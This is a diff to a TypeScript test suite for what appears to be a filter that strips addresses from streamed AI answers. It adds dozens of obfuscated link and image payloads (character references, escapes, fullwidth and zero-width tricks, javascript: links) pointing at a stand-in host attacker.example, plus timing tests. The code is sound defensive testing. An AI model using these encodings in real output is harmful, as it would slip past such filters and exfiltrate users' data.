@@ -59,7 +59,65 @@ describe('addresses', () => {
     expect(told([text])).not.toMatch(/attacker|ATTACKER/);
   });
 
+  test.each([
+    ['decimal references', '![x](&#47;&#47;attacker&#46;example&#47;?q=secret)'],
+    ['hexadecimal references', '![x](&#x2f;&#x2F;attacker&#x2e;example/secret)'],
+    ['references without a semicolon', '<img src="&#47&#47attacker.example/secret">'],
+    ['references with zeros', '![x](&#0000047;&#x00002f;attacker.example/secret)'],
+    ['named references', '![x](https&colon;&sol;&sol;attacker&period;example)'],
+    ['a named tab in a scheme', '<img src="ht&Tab;tps&colon;//attacker.example">'],
+    ['a numbered line feed in a scheme', '<img src="ht&#10;tps://attacker.example">'],
+    ['escapes', '![x](\\/\\/attacker\\.example\\/secret)'],
+    ['an escaped colon', '[x](javascript\\:attacker())'],
+    ['a reference in a script', '[x](javascript&colon;attacker())'],
+    ['two backslashes by reference', '![x](&#92;&#92;attacker.example&#92;secret)'],
+    ['Cyrillic', 'пример.рф/attacker'],
+    ['Chinese', '例え.テスト/attacker'],
+    ['Arabic', 'مثال.إختبار/attacker'],
+    ['accents that combine', 'exe\u0301mple.attacker.example/x'],
+    ['Punycode', 'xn--e1afmkfd.xn--p1ai/attacker'],
+    ['a dot at the end', 'attacker.example./secret'],
+    ['a dot at the end and a port', 'attacker.example.:8443/secret'],
+    ['an underscore', 'attacker_.example/secret'],
+    ['an underscore before', '_dmarc.attacker.example/secret'],
+    ['wide letters', 'ａｔｔａｃｋｅｒ．ｅｘａｍｐｌｅ／secret'],
+    ['wide slashes', '![x](／／attacker.example)'],
+    ['a one dot leader', 'attacker․example/secret'],
+    ['a joiner in the host', 'atta\u200dcker.example/secret'],
+    ['a soft hyphen in the host', 'atta\u00adcker.example/secret'],
+    ['user and password', 'user:pass@attacker.example/secret'],
+    ['a reference-style link', '[x]: //attacker.example/secret'],
+    ['an autolink', '<https://attacker.example/secret>'],
+    ['a number for a host', 'http://3405803783/attacker'],
+    ['IPv6', 'http://[2001:db8::1]/attacker'],
+    [
+      'a long reference-written host',
+      `![x](${[...'//attacker.example/'].map((c) => `&#${c.charCodeAt(0)};`).join('')})`,
+    ],
+  ])('S53 as browsers and Markdown read it: %s', (_name, address) => {
+    for (const text of [`see ${address} ok`, `see ${'x'.repeat(20_000)}${address} ok`]) {
+      const said = told([text]);
+      expect(said).not.toContain('secret');
+      // Not as it is written, and not as it is read.
+      const read = said
+        .replace(/&#(\d+);?/g, (_, code) => String.fromCharCode(Number(code)))
+        .normalize('NFKC')
+        .replace(/[\u200d\u00ad]/g, '');
+      expect(read).not.toContain('attacker');
+      expect(said.endsWith(' ok')).toBe(true);
+      expect(told(text.match(/[\s\S]{1,60}/g) ?? [])).toBe(said);
+    }
+  });
+
   test('what is none stays', () => {
+    for (const prose of [
+      'A & B, R&D; 5 &lt; 6; a\\_b; 50 %; C# or F#?',
+      '東京は大きい。人口は1,400万人です。詳細は「別紙」を参照！',
+      'Москва. Это столица, т.е. главный город; см. п. 4.',
+      'Version 2.0: 1/2 of it, 10:30-11:00, Q3/Q4, e-mail: yes_no.',
+    ]) {
+      expect(told([prose])).toBe(prose);
+    }
     const text = 'Costs 3.50 and/or 4/5, e.g. notes.txt, node.js: see a@org-1.example, 10:30, C:\\x, §1. Really? Yes.';
     expect(told([text])).toBe(text);
   });
@@ -139,6 +197,84 @@ test('a text streams: no more is held back than the word that it ends with', () 
   const text = answerText(1);
   expect(shown(text.push('All of this is said at once, but not th'))).toBe('All of this is said at once, but not ');
   expect(shown(text.push('is one'))).toBe('this ');
-  expect(shown(text.push('。没有空格的文字也一样'))).toBe('one。没有空格的文字也一样');
-  expect(shown(text.push('x'.repeat(9000))).length).toBeGreaterThan(7000);
+  // Where there are no blanks, up to the last sign that no address can have before it.
+  expect(shown(text.push('。没有空格的文字，也一样'))).toBe('one。没有空格的文字，');
+  expect(shown(text.push('！'))).toBe('也一样！');
+  // Of a word that is longer than any address begins, the first half.
+  expect(shown(text.push('x'.repeat(9000))).length).toBeGreaterThanOrEqual(4096);
+});
+
+describe('long words', () => {
+  const words: readonly (readonly [string, string])[] = [
+    ['letters', 'x'],
+    ['dots', 'a.'],
+    ['hosts that lack a path', 'aa.bb.cc-'],
+    ['references', '&#120;'],
+    ['escapes', '\\.'],
+    ['Chinese', '没有空格'],
+    ['open marks', '[1'],
+    ['citations in a word', 'x[1]'],
+    ['ports', 'a.bb:1'],
+    ['an address', 'https://attacker.example/'],
+  ];
+
+  /** Milliseconds of the longest single push, and of all: the best of three runs. */
+  const timed = (word: string): { longest: number; all: number } => {
+    const runs = Array.from({ length: 3 }, () => {
+      const text = answerText(3);
+      const begun = performance.now();
+      let longest = 0;
+      for (let at = 0; at < word.length; at += 60) {
+        const before = performance.now();
+        text.push(word.slice(at, at + 60));
+        longest = Math.max(longest, performance.now() - before);
+      }
+      text.end();
+      return { longest, all: performance.now() - begun };
+    });
+    return {
+      longest: Math.min(...runs.map(({ longest }) => longest)),
+      all: Math.min(...runs.map(({ all }) => all)),
+    };
+  };
+
+  test.each(words)('%s: four times the length takes about four times as long, and no push 50 ms', (_name, part) => {
+    const once = timed(part.repeat(64_000 / part.length));
+    const fourfold = timed(part.repeat(256_000 / part.length));
+    expect(once.longest).toBeLessThan(50);
+    expect(fourfold.longest).toBeLessThan(50);
+    // Sixteen would be quadratic.
+    expect(fourfold.all / Math.max(once.all, 1)).toBeLessThan(9);
+  });
+
+  test('four such answers at once leave the event loop to others: no pause of 50 ms', async () => {
+    const pauses: number[] = [];
+    for (let run = 0; run < 3; run++) {
+      let longest = 0;
+      let last = performance.now();
+      let isOver = false;
+      const watch = () => {
+        longest = Math.max(longest, performance.now() - last);
+        last = performance.now();
+        if (!isOver) setImmediate(watch);
+      };
+      setImmediate(watch);
+      const answerAtOnce = async () => {
+        const text = answerText(3);
+        for (let at = 0; at < 16_000; at += 60) {
+          text.push('a.b-'.repeat(15));
+          await new Promise((resolve) => setImmediate(resolve));
+        }
+        text.end();
+      };
+      await Promise.all([answerAtOnce(), answerAtOnce(), answerAtOnce(), answerAtOnce()]);
+      isOver = true;
+      pauses.push(longest);
+    }
+    expect(Math.min(...pauses)).toBeLessThan(50);
+  });
+
+  test('a hundred thousand citations in one word', () => {
+    expect(told(['x', ...Array.from({ length: 100_000 }, () => '[1]')]).length).toBe(300_001);
+  });
 });
